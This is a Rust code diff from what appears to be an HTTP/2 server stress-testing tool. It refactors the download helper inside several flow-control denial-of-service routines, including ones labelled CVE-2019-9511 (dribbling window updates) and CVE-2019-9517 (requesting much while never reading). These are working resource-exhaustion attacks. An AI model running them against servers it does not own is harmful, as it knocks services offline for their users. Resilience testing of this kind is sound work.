@@ -6,7 +6,7 @@ use crate::frames::{
     DATA, GOAWAY, INITIAL_WINDOW_SIZE, PING, PRIORITY, PRIORITY_UPDATE, SETTINGS, frame, get, greeting, post, settings,
     window,
 };
-use crate::site::LARGE;
+use crate::site::{File, LARGE};
 use crate::stage::{Stage, attack};
 
 /// Frames in one write.
@@ -69,7 +69,7 @@ pub(crate) async fn empty_data(stage: &Arc<Stage>, padded: bool) {
 pub(crate) async fn window_churn(stage: &Arc<Stage>) {
     let flip = [settings(&[(INITIAL_WINDOW_SIZE, 1)]), settings(&[(INITIAL_WINDOW_SIZE, 0)])].concat().repeat(50);
     attack(stage, 4, true, greeting(&[(INITIAL_WINDOW_SIZE, 0)]), async |wire| {
-        wire.send(&downloads(100)).await?;
+        wire.send(&downloads(LARGE, 100)).await?;
         loop {
             wire.send(&flip).await?;
         }
@@ -78,9 +78,9 @@ pub(crate) async fn window_churn(stage: &Arc<Stage>) {
 }
 
 /// CVE-2019-9511: the window is opened byte by byte.
-pub(crate) async fn dribble(stage: &Arc<Stage>) {
+pub(crate) async fn dribble(stage: &Arc<Stage>, file: File) {
     attack(stage, 10, true, greeting(&[(INITIAL_WINDOW_SIZE, 0)]), async |wire| {
-        wire.send(&downloads(100)).await?;
+        wire.send(&downloads(file, 100)).await?;
         let bytes: Vec<u8> = (0..100).flat_map(|n| window(2 * n + 1, 1)).collect();
         loop {
             wire.send(&bytes).await?;
@@ -90,27 +90,28 @@ pub(crate) async fn dribble(stage: &Arc<Stage>) {
 }
 
 /// CVE-2019-9517: all windows wide open, much is asked for, and nothing is read.
-pub(crate) async fn never_read(stage: &Arc<Stage>) {
+pub(crate) async fn never_read(stage: &Arc<Stage>, file: File) {
     attack(stage, 20, false, greeting(&[(INITIAL_WINDOW_SIZE, 1 << 30)]), async |wire| {
         wire.send(&window(0, 1 << 30)).await?;
-        wire.send(&downloads(50)).await
+        wire.send(&downloads(file, 50)).await
     })
     .await;
 }
 
 /// Much is asked for, and no window is opened.
 pub(crate) async fn no_window(stage: &Arc<Stage>) {
-    attack(stage, 20, true, greeting(&[(INITIAL_WINDOW_SIZE, 0)]), async |wire| wire.send(&downloads(50)).await).await;
+    attack(stage, 20, true, greeting(&[(INITIAL_WINDOW_SIZE, 0)]), async |wire| wire.send(&downloads(LARGE, 50)).await)
+        .await;
 }
 
-fn downloads(count: u32) -> Vec<u8> {
-    (0..count).flat_map(|n| get(2 * n + 1, LARGE.path)).collect()
+fn downloads(file: File, count: u32) -> Vec<u8> {
+    (0..count).flat_map(|n| get(2 * n + 1, file.path)).collect()
 }
 
 /// Responses that wait behind a client who sends PINGs instead of window: nothing of it is progress.
 pub(crate) async fn pings_for_window(stage: &Arc<Stage>) {
     attack(stage, 10, true, greeting(&[(INITIAL_WINDOW_SIZE, 0)]), async |wire| {
-        wire.send(&downloads(10)).await?;
+        wire.send(&downloads(LARGE, 10)).await?;
         loop {
             wire.send(&ping()).await?;
             tokio::time::sleep(std::time::Duration::from_millis(50)).await;
